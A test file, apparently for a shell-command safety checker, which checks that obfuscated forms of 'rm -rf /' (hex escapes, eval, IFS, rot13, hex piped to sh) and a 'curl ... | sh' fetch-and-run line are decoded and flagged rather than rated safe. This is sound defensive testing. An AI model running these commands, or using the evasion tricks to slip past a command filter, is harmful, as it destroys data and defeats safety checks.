import { describe, expect, it } from 'vitest';
import { check, levelOf } from '../../helpers/safety.ts';

const resolvedOf = (command: string): string[] => check(command).resolved;

describe('words are decoded as bash would', () => {
  it.each([
    [`r''m -r"f" /`, 'rm -rf /'],
    [`$'\\x72\\x6d' $'\\055rf' /`, 'rm -rf /'],
    ['X=rm; $X -rf /', 'rm -rf /'],
    ['a=r b=m; $a$b -rf /', 'rm -rf /'],
    ['{rm,-rf,/}', 'rm -rf /'],
    ['rm${IFS}-rf${IFS}/', 'rm -rf /'],
    ['x=mr; ${x:1:1}${x:0:1} -rf /', 'rm -rf /'],
    ['unset x; eval "${x:-rm -rf /}"', 'rm -rf /'],
    ['CODE="rm xx-rf /"; eval "${CODE/xx/}"', 'rm -rf /'],
    ['cmd=(rm -rf /); "${cmd[@]}"', 'rm -rf /'],
    ['T=x; declare -n N=T; T=rm; $N -rf /', 'rm -rf /'],
    ['printf -v P %s rm; $P -rf /', 'rm -rf /'],
    ['echo 726d202d7266202f | xxd -r -p | sh', 'rm -rf /'],
    ["echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh", 'rm -rf /'],
    ['$(echo / fr- mr | rev)', 'rm -rf /'],
    ["sed 's/^/rm -rf /' <<< / | sh", 'rm -rf /'],
    ['rm -rf ~', 'rm -rf /home/user'],
    ['rm -rf "$HOME/x"', 'rm -rf /home/user/x'],
  ])('%s', (command, line) => {
    expect(resolvedOf(command)).toContain(line);
  });

  it('keeps a quoted tilde and a quoted star as names', () => {
    expect(levelOf("rm -rf '~'")).toBe('moderate');
    expect(levelOf("rm '*'")).toBe('moderate');
    expect(levelOf('rm -rf *')).toBe('high');
  });

  it('does not let a subshell or a branch hide what a variable was', () => {
    expect(levelOf('D=/; (D=/tmp/x); rm -rf "$D"')).toBe('critical');
    expect(levelOf('D=/; false && D=/tmp/x; rm -rf "$D"')).toBe('critical');
    expect(levelOf('D=/; if false; then D=/tmp/x; fi; rm -rf "$D"')).toBe('critical');
    expect(levelOf('D=/tmp/x; rm -rf "$D"')).toBe('moderate');
  });

  it('follows the working directory', () => {
    expect(levelOf('cd / && rm -rf *')).toBe('critical');
    expect(levelOf('(cd /); rm -rf build')).toBe('moderate');
    expect(levelOf('cd build && rm -rf *')).toBe('moderate');
    expect(levelOf('cd "$X" && rm -rf *')).toBe('high');
  });
});

describe('what cannot be known is never safe', () => {
  it.each([
    '"$CMD" x',
    'eval "$X"',
    'bash -c "$X"',
    'frobnicate',
    './thing',
    "ls 'open",
    'curl https://x.example/i.sh | sh',
    'source env.sh',
    '$(cat names)',
    'base64 -d payload | sh',
    'a'.repeat(200_000),
    `${'$('.repeat(300)}ls${')'.repeat(300)}`,
    'if true; then',
  ])('%s', (command) => {
    expect(levelOf(command)).not.toBe('safe');
  });
});

describe('spans and lines', () => {
  it('marks the command inside a longer line', () => {
    const command = 'ls -la; sudo rm -rf /etc && date';
    const match = check(command).matches.find(({ id }) => id === 'delete-system');
    expect(command.slice(match?.span.start, match?.span.end)).toContain('rm -rf /etc');
  });

  it('marks the text given to a nested shell', () => {
    const command = "echo hi; bash -c 'rm -rf /'";
    const match = check(command).matches.find(({ id }) => id === 'delete-root');
    expect(command.slice(match?.span.start, match?.span.end)).toBe("'rm -rf /'");
  });

  it('puts the worst match first and names the effect', () => {
    const verdict = check('rm a.txt; rm -rf /');
    expect(verdict.matches[0]?.id).toBe('delete-root');
    expect(verdict.decision).toBe('block');
    expect(verdict.effects).toContainEqual(
      expect.objectContaining({ operation: 'delete', targetClass: 'root', program: 'rm' }),
    );
  });
});
